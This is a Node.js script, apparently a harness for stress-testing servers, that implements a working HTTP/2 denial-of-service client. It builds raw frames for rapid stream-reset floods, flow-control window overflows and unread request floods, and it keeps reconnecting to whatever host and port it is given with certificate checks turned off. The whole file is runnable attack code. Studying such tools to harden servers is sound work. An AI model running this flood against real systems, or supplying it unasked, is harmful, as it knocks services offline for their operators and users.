// A hostile HTTP/2 client, a process of its own: node flood.mjs KIND HOST:PORT MILLISECONDS. Keeps four TLS
// connections busy, opens the next one when the server closes one, and prints what it did as JSON.
import tls from 'node:tls';

export function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)]);
const GET = Buffer.from('828604012f0101' + '61', 'hex'); // GET / of a, without the dynamic table
const CANCEL = Buffer.from([0, 0, 0, 8]);

const KINDS = {
  resets: (i) => [frame(1, 5, 2 * i + 1, GET), frame(3, 0, 2 * i + 1, CANCEL)],
  // the server answers and has to reset: a window that overflows
  faults: (i) => [frame(1, 4, 2 * i + 1, GET), frame(8, 0, 2 * i + 1, Buffer.from('7fffffff', 'hex'))],
  // within every budget: requests, and nobody reads the answers
  requests: (i) => [frame(1, 5, 2 * i + 1, GET)],
};

function flood(kind, host, port, until, done) {
  const frames = [];
  for (let i = 0; i < 20000; i++) frames.push(...KINDS[kind](i));
  const bytes = Buffer.concat([PREFACE, ...frames]);
  const count = { connections: 0, bytes: 0 };
  let open = 0;
  const connect = () => {
    if (Date.now() >= until) return open || done(count);
    open++;
    count.connections++;
    const socket = tls.connect({ host, port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    socket.on('secureConnect', () => socket.write(bytes));
    socket.on('error', () => {});
    if (kind !== 'requests') socket.resume();
    const timer = setTimeout(() => socket.destroy(), until - Date.now());
    socket.on('close', () => {
      clearTimeout(timer);
      count.bytes += socket.bytesWritten;
      open--;
      connect();
    });
  };
  for (let i = 0; i < 4; i++) connect();
}

if (process.argv[1] === import.meta.filename) {
  const [kind, address, ms] = process.argv.slice(2);
  const [host, port] = address.split(':');
  flood(kind, host, Number(port), Date.now() + Number(ms), (count) => {
    console.log(JSON.stringify(count));
    process.exit();
  });
}
